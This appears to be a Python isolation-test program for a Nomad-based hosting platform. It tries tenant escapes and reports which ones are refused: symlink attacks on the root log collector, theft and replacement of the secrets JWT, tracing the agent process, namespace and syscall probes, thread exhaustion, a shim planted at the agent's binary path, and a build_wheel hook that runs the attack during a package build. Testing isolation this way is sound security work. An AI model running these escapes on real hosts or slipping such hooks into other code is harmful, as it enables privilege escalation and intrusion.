"""A program that tries what no tenant may do. It is a module, a program and a build backend."""

import ctypes
import json
import os
import resource
import signal
import sys
import threading

target = "TARGET"
libc = ctypes.CDLL(None, use_errno=True)


def attempt(f, *args):
    try:
        f(*args)
        return "done"
    except OSError as e:
        return "refused: " + str(e)


def call(number, *args):
    """Make a call of the system by its number on amd64."""
    ctypes.set_errno(0)
    if libc.syscall(number, *args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def fork_with(flags):
    ctypes.set_errno(0)
    pid = libc.syscall(56, flags | signal.SIGCHLD, 0, 0, 0, 0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def attack(task):
    tried = {}
    # Nomad's log collector is root of the host: a log that is a link is a file of choice.
    for n in range(1, 4):
        for stream in ("stdout", "stderr"):
            log = "/alloc/logs/%s.%s.%d" % (task, stream, n)
            tried["a link at " + log] = attempt(os.symlink, target, log)
    if "done" in tried.values():
        for _ in range(120):
            print("x" * 50_000, flush=True)
            print("x" * 50_000, file=sys.stderr, flush=True)
    tried["a pipe among the logs"] = attempt(os.mkfifo, "/alloc/logs/%s.stdout.9" % task)
    for dir in ("/alloc", "/alloc/logs", "/alloc/data", "/alloc/tmp", "/alloc/container", "/secrets", "/private"):
        tried["list " + dir] = attempt(os.listdir, dir)
        tried["write in " + dir] = attempt(open, dir + "/mine", "w")
    identity = "/secrets/nomad_fngen.jwt"
    tried["read the identity"] = attempt(open, identity)
    tried["rename the identity"] = attempt(os.rename, identity, "/secrets/mine.jwt")
    tried["a link in the place of the identity"] = attempt(os.symlink, target, identity)
    tried["write beside the directories"] = attempt(open, "/mine", "w")
    tried["replace the home"] = attempt(os.rename, "/local", "/mine")
    tried["replace the record of causes"] = attempt(os.rename, "/.fngen", "/mine")
    tried["a pipe in its place"] = attempt(os.mkfifo, "/.fngen/pipe")
    # The agent is the first process of the task.
    tried["signal the agent"] = attempt(os.kill, 1, 0)
    for name in ("environ", "mem", "maps"):
        tried["open the agent's " + name] = attempt(open, "/proc/1/" + name)
    for name in ("fd", "cwd", "root"):
        tried["list the agent's " + name] = attempt(os.listdir, "/proc/1/" + name)
    tried["trace the agent"] = attempt(call, 101, 16, 1, 0, 0)
    for name, flag in {"user": 0x10000000, "network": 0x40000000, "mount": 0x20000}.items():
        tried["a %s namespace" % name] = attempt(fork_with, flag)
    tried["unshare"] = attempt(call, 272, 0x10000000)
    tried["mount"] = attempt(call, 165, b"none", b"/tmp", b"tmpfs", 0, 0)
    tried["keyctl"] = attempt(call, 250, 0, -3, 1)
    tried["bpf"] = attempt(call, 321, 0, 0, 0)
    tried["perf_event_open"] = attempt(call, 298, 0, 0, 0, 0, 0)
    tried["userfaultfd"] = attempt(call, 323, 1)
    tried["io_uring"] = attempt(call, 425, 1, 0)
    if resource.getrlimit(resource.RLIMIT_CORE)[1] == 0:
        tried["memory dumps"] = "refused: the limit is 0"
    else:
        tried["memory dumps"] = "done"
    if resource.getrlimit(resource.RLIMIT_NPROC)[1] <= 1024:
        tried["many processes"] = "refused: the limit is 1024"
    else:
        tried["many processes"] = "done"
    return tried


held, end = [], threading.Event()


def count():
    """Start threads, which count like processes and cost less, until there are no more."""
    ended = "never"
    try:
        while len(held) < 2500:
            thread = threading.Thread(target=end.wait)
            thread.start()
            held.append(thread)
    except RuntimeError as e:
        ended = str(e)
    return {"started": len(held), "ended": ended}


def stop():
    end.set()
    for thread in held:
        thread.join()
    return {}


planted, trace = "/local/opt/fngen/bin/fngen-agent", "/local/trace"


def plant():
    os.makedirs(os.path.dirname(planted), exist_ok=True)
    with open(planted, "w") as f:
        f.write("#!/bin/sh\n(id; grep Cap /proc/self/status) > %s\nexec /opt/fngen/bin/fngen-agent \"$@\"\n" % trace)
    os.chmod(planted, 0o755)
    os.chmod("/local", 0o777)
    os._exit(1)


def taken():
    ran = open(trace).read() if os.path.exists(trace) else ""
    return {"planted": "yes" if os.path.exists(planted) else "no", "ran as": ran}


def told(task):
    return "INTRUDER " + json.dumps(attack(task))


def build_wheel(*args):
    sys.exit(told("build"))  # what a build says when it fails is shown


if __name__ == "__main__":
    print(told(sys.argv[1]), flush=True)
